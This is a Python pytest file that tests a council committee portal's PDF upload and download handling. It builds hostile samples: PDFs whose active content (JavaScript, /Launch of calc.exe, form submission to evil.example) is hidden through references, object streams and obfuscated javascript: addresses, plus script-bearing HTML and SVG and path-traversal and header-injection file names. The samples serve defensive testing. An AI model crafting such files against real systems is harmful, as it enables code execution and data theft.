"""Hostile uploads to a report (/manage/reports/<pk>/documents/new/): too big (refused before
the body is read), the wrong bytes behind a `.pdf` name, password-protected and damaged
PDFs, PDFs with active content however it is held (in objects of their own, chains of
actions, object streams, addresses spelt with control characters), and hostile file names.
Active content in a file stored before the check never reaches the agenda pack. What is
stored gets a random name under MEDIA_ROOT/documents/, and is only ever served as an
attachment, with `X-Content-Type-Options: nosniff` and a Content-Disposition that carries
no path, quote, line break or bidirectional override."""

import contextlib
import io
import re
import secrets
import signal
import zipfile
from email.message import Message

import pytest
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NumberObject,
    TextStringObject,
)

from committees import documents
from committees.models import AgendaPack, Document, PackStatus
from committees.pack import build_pack
from organisation.roles import Role
from portal_kit import uploads
from tests.committees.factories import (
    AgendaItemFactory,
    ConsultationFactory,
    DocumentFactory,
    PaperFactory,
    approve_fully,
    minimal_pdf,
    published_meeting,
)
from tests.security.payloads import hand_written_pdf, word_document
from tests.security.support import changed_tables, client_as, row_counts

pytestmark = pytest.mark.django_db

PDF = minimal_pdf("Whistleblowing Policy", pages=2)
STORED_NAME = re.compile(r"^documents/[0-9a-f]{32}\.pdf$")


def files_in(root) -> list[str]:
    """Every file under `root` (the test's own MEDIA_ROOT, from tests/security/conftest.py)."""
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


@pytest.fixture
def gs():
    return client_as(Role.GOVERNANCE_SERVICES)


@pytest.fixture
def paper():
    """A public report on a published agenda, so its files are public too."""
    paper = approve_fully(PaperFactory(title="Whistleblowing Policy"))
    ConsultationFactory(paper=paper, agenda_item=AgendaItemFactory(meeting=published_meeting()))
    return paper


def multipart(fields: dict, *, filename: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand, so the file name reaches the server exactly as
    given (the test client would strip folders from it first)."""
    boundary = secrets.token_hex(16)
    parts = []
    for name, value in fields.items():
        disposition = f'Content-Disposition: form-data; name="{name}"'
        parts.append(f"--{boundary}\r\n{disposition}\r\n\r\n{value}\r\n".encode())
    quoted = filename.replace("\\", "\\\\").replace('"', '\\"')
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
        "Content-Type: application/pdf\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def upload(client, paper, *, filename="report.pdf", content=PDF, title="Whistleblowing Policy"):
    body, content_type = multipart(
        {"kind": "report", "title": title}, filename=filename, content=content
    )
    return client.generic(
        "POST",
        reverse("manage:report_upload", args=[paper.pk]),
        body,
        content_type=content_type,
    )


def assert_refused(response, message):
    assert response.status_code == 200
    page = response.content.decode()
    assert "govuk-error-summary" in page
    assert message in page


# --- Too big ---------------------------------------------------------------------------------


def test_an_upload_over_the_request_limit_is_refused_before_it_reaches_the_disk(
    gs, paper, media, settings
):
    settings.MAX_UPLOAD_BYTES = 1024 * 1024
    settings.MAX_REQUEST_BYTES = settings.MAX_UPLOAD_BYTES + 4096
    before = row_counts()
    response = upload(gs, paper, content=b"%PDF-1.7\n" + b"0" * (settings.MAX_REQUEST_BYTES + 1))
    assert response.status_code == 413
    assert "The file is too big" in response.content.decode()
    assert "Files must be smaller than 1 MB" in response.content.decode()
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


def test_the_limit_is_read_from_the_declared_length_without_reading_the_body(
    gs, paper, media, settings
):
    """The middleware answers from Content-Length alone: a body that is never sent in full
    (here: a stream that fails if read) is never touched."""
    settings.MAX_REQUEST_BYTES = 1000

    class Unreadable(io.RawIOBase):
        def read(self, *args):
            raise AssertionError("the request body was read")

    response = gs.generic(
        "POST",
        reverse("manage:report_upload", args=[paper.pk]),
        b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH="5000000000",
        **{"wsgi.input": Unreadable()},
    )
    assert response.status_code == 413
    assert files_in(media) == []


def test_a_file_over_the_upload_limit_but_inside_the_request_limit_is_refused_by_the_form(
    gs, paper, media, settings
):
    settings.MAX_UPLOAD_BYTES = 64 * 1024
    settings.MAX_REQUEST_BYTES = 1024 * 1024
    big = PDF + b"\n%" + b"x" * (settings.MAX_UPLOAD_BYTES + 1)
    before = row_counts()
    response = upload(gs, paper, content=big)
    assert_refused(response, "The selected file must be smaller than 64 KB")
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


# --- Not what it says it is -----------------------------------------------------------------


def _encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _encrypted_pdf_without_user_password() -> bytes:
    """Opens without a password (owner password only), but is still encrypted."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-40")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _no_pages_pdf() -> bytes:
    out = io.BytesIO()
    PdfWriter().write(out)
    return out.getvalue()


def _zip(members: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _corrupt_xref_pdf() -> bytes:
    return re.sub(rb"startxref\s+\d+", b"startxref\n999999999", PDF)


def _garbled_objects_pdf() -> bytes:
    header, _, _rest = PDF.partition(b"\n")
    return header + b"\n" + secrets.token_bytes(4000) + b"\n%%EOF\n"


HOSTILE_FILES = {
    "windows executable": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200, documents.WRONG_TYPE),
    "html page": (b"<html><script>alert(1)</script></html>", documents.WRONG_TYPE),
    "svg with script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        documents.WRONG_TYPE,
    ),
    "png": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, documents.WRONG_TYPE),
    "pdf magic too late": (b" " + PDF, documents.WRONG_TYPE),
    "old word format": (uploads.OLE_MAGIC + b"\x00" * 600, documents.OLD_WORD_FORMAT),
    "empty": (b"", documents.EMPTY),
    "password protected pdf": (_encrypted_pdf(), documents.PASSWORD_PROTECTED),
    "encrypted pdf with only an owner password": (
        _encrypted_pdf_without_user_password(),
        documents.PASSWORD_PROTECTED,
    ),
    "pdf header then garbage": (b"%PDF-1.7\n" + b"\xff" * 4000, documents.DAMAGED),
    "pdf with garbled objects": (_garbled_objects_pdf(), documents.DAMAGED),
    "pdf with no pages": (_no_pages_pdf(), documents.DAMAGED),
    "zip that is not a word document": (
        b"PK\x03\x04" + b"\x00" * 200,
        documents.DAMAGED,
    ),
    # The probe: accepted as a .docx for holding word/document.xml, whatever else it held.
    "zip holding only word/document.xml": (
        _zip({"word/document.xml": "<w:document/>"}),
        documents.WRONG_TYPE,
    ),
    "word document carrying a program": (
        word_document(parts={"word/media/payload.exe": b"MZ\x90\x00"}),
        documents.ACTIVE_WORD_CONTENT,
    ),
}


@pytest.mark.parametrize("kind", list(HOSTILE_FILES))
def test_a_file_that_is_not_a_readable_pdf_is_refused_and_nothing_is_stored(gs, paper, media, kind):
    content, message = HOSTILE_FILES[kind]
    before = row_counts()
    response = upload(gs, paper, filename="report.pdf", content=content)
    assert_refused(response, message)
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


def test_a_pdf_with_a_broken_cross_reference_table_is_repaired_or_refused(gs, paper, media):
    """pypdf rebuilds a damaged cross-reference table when it can; either way the upload
    never errors, and a file is stored only if it could be read."""
    response = upload(gs, paper, content=_corrupt_xref_pdf())
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert_refused(response, documents.DAMAGED)
        assert files_in(media) == []
    else:
        assert Document.objects.get().page_count == 2


# --- Active content ----------------------------------------------------------------------------


def _name(value: str):
    from pypdf.generic import NameObject

    return NameObject(value)


def _action(kind, **entries):
    """An action dictionary: /S `kind` (a name, or a reference to one), plus entries given as
    Python values."""
    from pypdf.generic import DictionaryObject, TextStringObject

    action = DictionaryObject({_name("/S"): _name(kind) if isinstance(kind, str) else kind})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value if not isinstance(value, str) else TextStringObject(value)
    return action


def _script(code="app.alert(1)"):
    return _action("/JavaScript", JS=code)


def _annotation(writer, subtype: str, **entries):
    """An annotation of `subtype` added to the first page, with the given entries."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject

    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name(subtype),
            _name("/Rect"): ArrayObject(FloatObject(n) for n in (10, 10, 200, 40)),
        }
    )
    for key, value in entries.items():
        annotation[_name(f"/{key}")] = value
    page = writer.pages[0]
    annots = page.get("/Annots") or ArrayObject()
    annots.append(writer._add_object(annotation))
    page[_name("/Annots")] = annots


def _with(change) -> bytes:
    """The report PDF after `change(writer)`, written out again by pypdf."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(PDF)))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _set(where: str, key: str, value):
    def change(writer):
        target = writer.root_object if where == "catalog" else writer.pages[0]
        target[_name(key)] = value

    return change


def _open_action_chain(writer):
    """An innocent-looking "go to page 1" that runs a script next."""
    from pypdf.generic import ArrayObject

    goto = _action("/GoTo")
    goto[_name("/D")] = ArrayObject([writer.pages[0].indirect_reference, _name("/Fit")])
    goto[_name("/Next")] = _script()
    writer.root_object[_name("/OpenAction")] = goto


def _named_script(writer):
    """A script in the document's /Names tree: readers run it when the file opens."""
    from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject

    tree = DictionaryObject(
        {_name("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(_script())])}
    )
    writer.root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})


def _xfa_form(writer):
    from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject

    writer.root_object[_name("/AcroForm")] = DictionaryObject(
        {
            _name("/Fields"): ArrayObject(),
            _name("/XFA"): TextStringObject("<xdp:xdp><script>app.alert(1)</script></xdp:xdp>"),
        }
    )


def _rich_media(writer):
    from pypdf.generic import DictionaryObject

    _annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())


def _escaped_name() -> bytes:
    """A page-open script whose names are spelt with #-escapes (/J#61vaScript is
    /JavaScript), which a byte search for "/JavaScript" misses. The file's cross-reference
    offsets no longer match, which pypdf (like PDF readers) repairs."""
    data = _with(_set("page", "/AA", _script()))
    return data.replace(b"/AA", b"/#41A").replace(b"/JavaScript", b"/J#61vaScript")


ACTIVE_PDFS = {
    "script run when the file opens": _with(_set("catalog", "/OpenAction", _script())),
    "document automatic actions": _with(
        lambda w: w.root_object.__setitem__(
            _name("/AA"), DictionaryObject({_name("/WC"): _script()})
        )
    ),
    "document-level javascript": _with(_named_script),
    "attached file": _with(lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00")),
    "page-open script": _with(_set("page", "/AA", DictionaryObject({_name("/O"): _script()}))),
    "link running a script": _with(lambda w: _annotation(w, "/Link", A=_script())),
    "link launching a program": _with(
        lambda w: _annotation(w, "/Link", A=_action("/Launch", F="C:\\Windows\\calc.exe"))
    ),
    "javascript: address": _with(
        lambda w: _annotation(w, "/Link", A=_action("/URI", URI=" JavaScript:app.alert(1)"))
    ),
    "form submitting its data": _with(
        lambda w: _annotation(w, "/Link", A=_action("/SubmitForm", F="https://evil.example/"))
    ),
    "annotation with automatic actions": _with(
        lambda w: _annotation(w, "/Widget", AA=DictionaryObject({_name("/E"): _script()}))
    ),
    "script chained after a go-to": _with(_open_action_chain),
    "rich media": _with(_rich_media),
    "file attachment annotation": _with(lambda w: _annotation(w, "/FileAttachment")),
    "xfa form": _with(_xfa_form),
    "names spelt with escapes": _escaped_name(),
}


# What an outside probe sent: the same active content, with the parts a check looks at held
# in other objects (`6 0 R`), chained, packed into an object stream, or spelt so that a
# reader still runs it. Hand-written files are byte for byte what a probe sends.
def _indirect(writer, value):
    """`value` as an object of its own, and a reference to it."""
    return writer._add_object(value)


def _remote_go_to(target):
    return lambda w: _annotation(
        w, "/Link", A=_action("/GoToR", F=target, D=ArrayObject([NumberObject(0), _name("/Fit")]))
    )


LINK = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A %s >>"
GO_TO_PAGE_ONE = b"<< /S /GoTo /D [3 0 R /Fit] >>"
LAUNCH_BY_REFERENCE = b"<< /S 9 0 R /F (calc.exe) >>"

INDIRECT_PDFS = {
    "opening action whose type is a reference to /Launch": hand_written_pdf(
        catalog=b"/OpenAction << /S 6 0 R /F (calc.exe) >>", objects={6: b"/Launch"}
    ),
    "opening action whose type is a reference to /SubmitForm": hand_written_pdf(
        catalog=b"/OpenAction << /S 6 0 R /F (https://evil.example/) >>",
        objects={6: b"/SubmitForm"},
    ),
    "opening action held in an object of its own": hand_written_pdf(
        catalog=b"/OpenAction 6 0 R", objects={6: b"<< /S /Launch /F (calc.exe) >>"}
    ),
    "link whose action type is a reference to /Launch": _with(
        lambda w: _annotation(w, "/Link", A=_action(_indirect(w, _name("/Launch")), F="calc.exe"))
    ),
    "link whose action type is a reference to /SubmitForm": _with(
        lambda w: _annotation(
            w, "/Link", A=_action(_indirect(w, _name("/SubmitForm")), F="https://evil.example/")
        )
    ),
    "link and its action held in objects of their own": hand_written_pdf(
        page=b"/Annots [6 0 R]",
        objects={6: LINK % b"7 0 R", 7: LAUNCH_BY_REFERENCE, 9: b"/Launch"},
    ),
    "javascript: address held in an object of its own": _with(
        lambda w: _annotation(
            w,
            "/Link",
            A=_action("/URI", URI=_indirect(w, TextStringObject("javascript:app.alert(1)"))),
        )
    ),
    "javascript: address in bytes that are not text": hand_written_pdf(
        catalog=b"/OpenAction << /S /URI /URI <%s9f> >>" % b"javascript:app.alert(1)".hex().encode()
    ),
    "launch at the end of a chain of referenced actions": hand_written_pdf(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
        objects={
            6: b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
            7: LAUNCH_BY_REFERENCE,
            9: b"/Launch",
        },
    ),
    "form submission in an array of next actions": hand_written_pdf(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R %s 7 0 R] >>"
        % GO_TO_PAGE_ONE,
        objects={
            6: GO_TO_PAGE_ONE,
            7: b"<< /S 8 0 R /F (https://evil.example/) >>",
            8: b"/SubmitForm",
        },
    ),
    "launch at the end of a cycle of actions": hand_written_pdf(
        catalog=b"/OpenAction 6 0 R",
        objects={
            6: b"<< /S /GoTo /D [3 0 R /Fit] /Next [7 0 R 6 0 R] >>",
            7: b"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R 8 0 R] >>",
            8: LAUNCH_BY_REFERENCE,
            9: b"/Launch",
        },
    ),
    "actions packed in a compressed object stream": hand_written_pdf(
        catalog=b"/OpenAction 6 0 R",
        objects={6: LAUNCH_BY_REFERENCE, 9: b"/Launch"},
        packed=(1, 2, 3, 5, 6, 9),
    ),
    "link packed in a compressed object stream": hand_written_pdf(
        page=b"/Annots [6 0 R]",
        objects={6: LINK % b"7 0 R", 7: LAUNCH_BY_REFERENCE, 9: b"/Launch"},
        packed=(3, 6, 7, 9),
    ),
    "page automatic actions held in objects of their own": hand_written_pdf(
        page=b"/AA 6 0 R",
        objects={
            6: b"<< /O 7 0 R >>",
            7: b"<< /S 8 0 R /JS 9 0 R >>",
            8: b"/JavaScript",
            9: b"(app.alert\\(1\\))",
        },
    ),
    "document script in a name tree held in objects of its own": hand_written_pdf(
        catalog=b"/Names 6 0 R",
        objects={
            6: b"<< /JavaScript 7 0 R >>",
            7: b"<< /Names [(init) 8 0 R] >>",
            8: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        },
    ),
    "media annotation whose subtype is a reference": hand_written_pdf(
        page=b"/Annots [<< /Type /Annot /Subtype 6 0 R /Rect [72 700 300 720] >>]",
        objects={6: b"/RichMedia"},
    ),
    "attached file whose type is a reference": hand_written_pdf(
        page=b"/PieceInfo << /Payload 6 0 R >>",
        objects={
            6: b"<< /Type 7 0 R /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
            7: b"/EmbeddedFile",
        },
    ),
    "launch in a page's presentation steps": hand_written_pdf(
        page=b"/PresSteps << /Type /NavNode /NA 6 0 R >>",
        objects={6: LAUNCH_BY_REFERENCE, 9: b"/Launch"},
    ),
    "script behind a form field's widget": hand_written_pdf(
        page=b"/Annots [6 0 R]",
        objects={
            6: b"<< /Type /Annot /Subtype /Widget /Rect [72 700 300 720] /Parent 7 0 R >>",
            7: b"<< /FT /Tx /T (name) /Kids [6 0 R] /AA << /K 8 0 R >> >>",
            8: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        },
    ),
    "script in the base address of relative links": hand_written_pdf(
        catalog=b"/URI << /Base (javascript:app.alert\\(1\\)//) >>",
        page=b"/Annots [6 0 R]",
        objects={6: LINK % b"<< /S /URI /URI (policy.html) >>"},
    ),
    "go-to into a file on a network share": _with(
        _remote_go_to("\\\\evil.example\\share\\report.pdf")
    ),
    "go-to into a file on a web server": _with(
        _remote_go_to(
            DictionaryObject(
                {
                    _name("/FS"): _name("/URL"),
                    _name("/F"): TextStringObject("https://evil.example/report.pdf"),
                }
            )
        )
    ),
    "go-to into a file at an absolute path": _with(_remote_go_to("/C/Users/Public/evil.pdf")),
}
# A reader ignores control characters and spaces in an address's scheme, and its case.
SCRIPT_ADDRESSES = [
    "java\tscript:app.alert(1)",
    "java\nscript:app.alert(1)",
    "java\rscript:app.alert(1)",
    "\x00javascript:app.alert(1)",
    "\x01 \x1f JaVaScRiPt:app.alert(1)",
    "javascript\x7f:app.alert(1)",
    "\u200bjavascript:app.alert(1)",
    "  JAVASCRIPT:app.alert(1)",
    "VBScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///C:/Windows/System32/calc.exe",
    "FI\tLE://evil.example/share/report.pdf",
]
ACTIVE_PDFS |= INDIRECT_PDFS
ACTIVE_PDFS |= {
    f"address {address!r}": _with(
        lambda w, address=address: _annotation(w, "/Link", A=_action("/URI", URI=address))
    )
    for address in SCRIPT_ADDRESSES
}


@pytest.mark.parametrize("kind", list(ACTIVE_PDFS))
def test_a_pdf_with_active_content_is_refused_and_nothing_is_stored(gs, paper, media, kind):
    before = row_counts()
    with finishes_within(seconds=20):
        response = upload(gs, paper, content=ACTIVE_PDFS[kind])
    assert_refused(response, documents.ACTIVE_CONTENT)
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


@contextlib.contextmanager
def finishes_within(*, seconds: int):
    """Fails the test, rather than hanging it, if the block takes longer."""

    def expire(signum, frame):
        raise TimeoutError(f"still running after {seconds} seconds")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def _chain_of_go_tos(length: int) -> bytes:
    objects = {
        n: b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (n + 1) for n in range(6, 6 + length)
    }
    objects[6 + length] = GO_TO_PAGE_ONE
    return hand_written_pdf(catalog=b"/OpenAction 6 0 R", objects=objects)


def _with_link(address: str) -> bytes:
    return _with(lambda w: _annotation(w, "/Link", A=_action("/URI", URI=address)))


ORDINARY_PDFS = {
    "links and an opening view held in objects of their own": hand_written_pdf(
        catalog=b"/OpenAction 6 0 R",
        page=b"/Annots [7 0 R 8 0 R]",
        objects={
            6: b"[3 0 R /Fit]",
            7: LINK % b"<< /S 9 0 R /URI 10 0 R >>",
            8: LINK % b"<< /S /URI /URI (mailto:governance@coventry.gov.uk) >>",
            9: b"/URI",
            10: b"(https://www.coventry.gov.uk/)",
        },
    ),
    "an opening action that goes to the first page": hand_written_pdf(
        catalog=b"/OpenAction %s" % GO_TO_PAGE_ONE
    ),
    "a cycle of go-to actions": hand_written_pdf(
        catalog=b"/OpenAction 6 0 R",
        objects={
            6: b"<< /S /GoTo /D [3 0 R /Fit] /Next [7 0 R 6 0 R] >>",
            7: b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
        },
    ),
    "a long chain of go-to actions": _chain_of_go_tos(500),
    "a go-to into a file beside it": _with(_remote_go_to("Appendix A.pdf")),
    "objects packed in a compressed object stream": hand_written_pdf(
        catalog=b"/OpenAction [3 0 R /Fit]",
        page=b"/Annots [6 0 R]",
        objects={6: LINK % b"<< /S /URI /URI (https://www.coventry.gov.uk/) >>"},
        packed=(1, 2, 3, 5, 6),
    ),
    "an address that only mentions javascript:": _with_link(
        "https://www.example.com/search?q=javascript:alert"
    ),
    "a telephone number": _with_link("tel:+442476833333"),
}


@pytest.mark.parametrize("kind", list(ORDINARY_PDFS))
def test_an_ordinary_pdf_whose_parts_are_held_in_other_objects_is_accepted(gs, paper, media, kind):
    with finishes_within(seconds=20):
        response = upload(gs, paper, content=ORDINARY_PDFS[kind])
    assert response.status_code == 302, response.content.decode()[:2000]
    document = Document.objects.get(paper=paper)
    assert "(page 1)" in document.text
    assert files_in(media) == [document.file.name]


def test_a_pdf_with_more_objects_than_can_be_followed_is_refused(gs, paper, media, monkeypatch):
    """The check follows every reference; one it cannot finish is not trusted."""
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 100)
    before = row_counts()
    response = upload(gs, paper, content=_chain_of_go_tos(200))
    assert_refused(response, documents.TOO_COMPLEX)
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


def test_a_pdf_whose_action_is_a_reference_to_a_reference_is_refused(gs, paper, media):
    """pypdf cannot read an object that is only a reference, so this is refused as damaged;
    were it to read one, the check follows the chain to the /Launch."""
    before = row_counts()
    response = upload(
        gs,
        paper,
        content=hand_written_pdf(
            catalog=b"/OpenAction 6 0 R",
            objects={6: b"7 0 R", 7: b"<< /S /Launch /F (calc.exe) >>"},
        ),
    )
    page = response.content.decode()
    assert response.status_code == 200 and "govuk-error-summary" in page
    assert documents.DAMAGED in page or documents.ACTIVE_CONTENT in page
    assert files_in(media) == []
    assert not changed_tables(before, row_counts())


# --- Files stored before the check: made inert in the agenda pack -------------------------------

#: What the hostile files carry, so that any copy of it in the pack shows, however it is held.
PAYLOADS = ("calc.exe", "evil.example", "alert", "MZ\x90")
ACTIVE_NAMES = {
    "/Launch",
    "/SubmitForm",
    "/JavaScript",
    "/JS",
    "/AA",
    "/RichMedia",
    "/EmbeddedFile",
}


def _everything_in(reader) -> set[str]:
    """Every name, key and string in the PDF, and the data of every stream, found
    independently of committees.documents: all objects, by number."""
    from pypdf.generic import ByteStringObject, StreamObject

    found = set()
    for number in range(1, reader.trailer["/Size"]):
        pending = [reader.get_object(number)]
        while pending:
            value = pending.pop()
            if isinstance(value, dict):
                found.update(value.keys())
                pending.extend(value.values())
                if isinstance(value, StreamObject):
                    found.add(value.get_data().decode("latin-1"))
            elif isinstance(value, list):
                pending.extend(value)
            elif isinstance(value, ByteStringObject):
                found.add(value.decode("latin-1"))
            elif isinstance(value, str):
                found.add(str(value))
    return found


def _built_pack(paper) -> bytes:
    meeting = paper.consultations.get().agenda_item.meeting
    pack = build_pack(AgendaPack.objects.create(meeting=meeting, status=PackStatus.QUEUED))
    assert pack.status == PackStatus.READY, pack.error
    with pack.file.open("rb") as handle:
        return handle.read()


@pytest.mark.parametrize("kind", list(ACTIVE_PDFS))
def test_active_content_in_a_file_stored_before_the_check_never_reaches_the_pack(paper, kind):
    DocumentFactory(paper=paper, content=ACTIVE_PDFS[kind])

    data = _built_pack(paper)

    reader = PdfReader(io.BytesIO(data))
    assert "(page 1)" in "".join(page.extract_text() for page in reader.pages)
    assert uploads.active_content(reader) == ""
    everything = _everything_in(reader)
    assert everything & ACTIVE_NAMES == set()
    assert [p for p in PAYLOADS if any(p in value for value in everything)] == []


def test_the_pack_keeps_ordinary_links_beside_the_active_ones_it_removes(paper):
    hostile = hand_written_pdf(
        page=b"/Annots [6 0 R 7 0 R 8 0 R]",
        objects={
            6: LINK % b"<< /S 10 0 R /URI 11 0 R >>",
            7: LINK % LAUNCH_BY_REFERENCE,
            8: LINK % b"<< /S /URI /URI (java\tscript:app.alert\\(1\\)) >>",
            9: b"/Launch",
            10: b"/URI",
            11: b"(https://www.coventry.gov.uk/)",
        },
    )
    DocumentFactory(paper=paper, content=hostile)

    report_page = PdfReader(io.BytesIO(_built_pack(paper))).pages[-1]

    actions = [a.get_object()["/A"] for a in report_page.get("/Annots", [])]
    assert [(a["/S"], a["/URI"]) for a in actions] == [("/URI", "https://www.coventry.gov.uk/")]


def test_a_page_another_page_links_to_is_made_inert_before_it_is_copied(paper):
    """pypdf copies the page a link goes to along with the link, so a page is made inert
    before an earlier page's link can bring it into the pack."""

    def link_to_a_hostile_page(writer):
        first, second = writer.pages[0], writer.pages[1]
        _annotation(writer, "/Link", Dest=ArrayObject([second.indirect_reference, _name("/Fit")]))
        second[_name("/AA")] = DictionaryObject({_name("/O"): _script()})
        second[_name("/Annots")] = ArrayObject(
            [
                writer._add_object(
                    DictionaryObject(
                        {
                            _name("/Type"): _name("/Annot"),
                            _name("/Subtype"): _name("/Link"),
                            _name("/Rect"): ArrayObject([NumberObject(0)] * 4),
                            _name("/A"): _action(_indirect(writer, _name("/Launch")), F="calc.exe"),
                        }
                    )
                )
            ]
        )
        assert first.get("/Annots")

    DocumentFactory(paper=paper, content=_with(link_to_a_hostile_page))

    reader = PdfReader(io.BytesIO(_built_pack(paper)))

    assert uploads.active_content(reader) == ""
    everything = _everything_in(reader)
    assert everything & ACTIVE_NAMES == set()
    assert [p for p in PAYLOADS if any(p in value for value in everything)] == []


def test_an_annotation_with_more_actions_than_can_be_followed_is_left_out_of_the_pack(
    paper, monkeypatch
):
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 100)
    chain = {n: b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (n + 1) for n in range(7, 207)}
    chain[207] = GO_TO_PAGE_ONE
    DocumentFactory(
        paper=paper,
        content=hand_written_pdf(page=b"/Annots [6 0 R]", objects={6: LINK % b"7 0 R", **chain}),
    )

    report_page = PdfReader(io.BytesIO(_built_pack(paper))).pages[-1]

    assert not report_page.get("/Annots")


def test_a_pdf_with_ordinary_links_and_an_opening_view_is_accepted(gs, paper, media):
    """What a word processor writes: links to a web page, an e-mail address and a page of the
    document, an outline, and an /OpenAction that only sets the first view (fpdf2 writes
    one)."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    pdf.start_section("Summary")
    page_two = pdf.add_link()
    pdf.cell(0, 10, "Read the policy", link="https://www.coventry.gov.uk/policy")
    pdf.ln()
    pdf.cell(0, 10, "E-mail us", link="mailto:governance@coventry.gov.uk")
    pdf.ln()
    pdf.cell(0, 10, "Appendix A", link=page_two)
    pdf.add_page()
    pdf.set_link(page_two)
    pdf.start_section("Appendix A")
    pdf.cell(0, 10, "Appendix A: the policy")
    content = bytes(pdf.output())
    assert b"/OpenAction" in content and b"/URI" in content

    response = upload(gs, paper, content=content)
    assert response.status_code == 302, response.content.decode()[:2000]
    document = Document.objects.get(paper=paper)
    assert document.page_count == 2
    assert "Read the policy" in document.text
    assert files_in(media) == [document.file.name]


# --- Hostile names -----------------------------------------------------------------------------

HOSTILE_NAMES = {
    "climbing out of the folder": "../../etc/passwd.pdf",
    "windows path": "..\\..\\windows\\system32\\config.pdf",
    "absolute path": "/etc/passwd.pdf",
    "nul byte": "report\x00.exe.pdf",
    "right-to-left override": "report\u202efdp.exe",
    "900 characters": "a" * 900 + ".pdf",
    "quotes and a line break": 'a"; filename="evil.html\r\nX-Evil: 1.pdf',
    "markup": "<script>alert(1)</script>.pdf",
    "only dots": "...",
    "zero-width and emoji": "re\u200bport 📄.pdf",
}
# Folders, control characters (NUL, CR, LF), zero-width and bidirectional controls.
UNSAFE_IN_A_NAME = re.compile(r"[/\\\x00-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def _content_disposition_is_safe(value: str):
    """An attachment whose file name (parsed as a mail client or browser would, escapes and
    RFC 2231 included) has no folder, control or bidirectional characters."""
    assert value.startswith("attachment;"), value
    assert "\r" not in value and "\n" not in value
    header = Message()
    header["Content-Disposition"] = value
    name = header.get_filename()
    assert name, value
    assert not UNSAFE_IN_A_NAME.search(name), repr(name)
    assert name.endswith(".pdf") and len(name) <= 255, name


@pytest.mark.parametrize("label", list(HOSTILE_NAMES))
def test_a_hostile_file_name_is_stored_under_a_random_name_and_offered_safely(
    gs, paper, media, client, label
):
    response = upload(gs, paper, filename=HOSTILE_NAMES[label])
    assert response.status_code == 302, response.content.decode()[:2000]
    document = Document.objects.get(paper=paper)

    assert STORED_NAME.match(document.file.name), document.file.name
    assert files_in(media) == [document.file.name]
    assert not UNSAFE_IN_A_NAME.search(document.original_name), repr(document.original_name)
    assert document.original_name.endswith(".pdf") and len(document.original_name) <= 255

    for url in (
        reverse("committees:document", args=[document.pk]),
        reverse("oparl:file_download", args=[document.pk]),
    ):
        download = client.get(url)
        assert download.status_code == 200, url
        assert download["Content-Type"] == "application/pdf"
        assert download["X-Content-Type-Options"] == "nosniff"
        _content_disposition_is_safe(download["Content-Disposition"])
        assert b"".join(download.streaming_content) == PDF


def test_a_file_name_too_long_for_a_multipart_header_is_a_bad_request(gs, paper, media):
    """Django refuses part headers over 1 024 bytes before the view runs."""
    before = row_counts()
    response = upload(gs, paper, filename="a" * 10_000 + ".pdf")
    assert response.status_code == 400
    assert files_in(media) == []
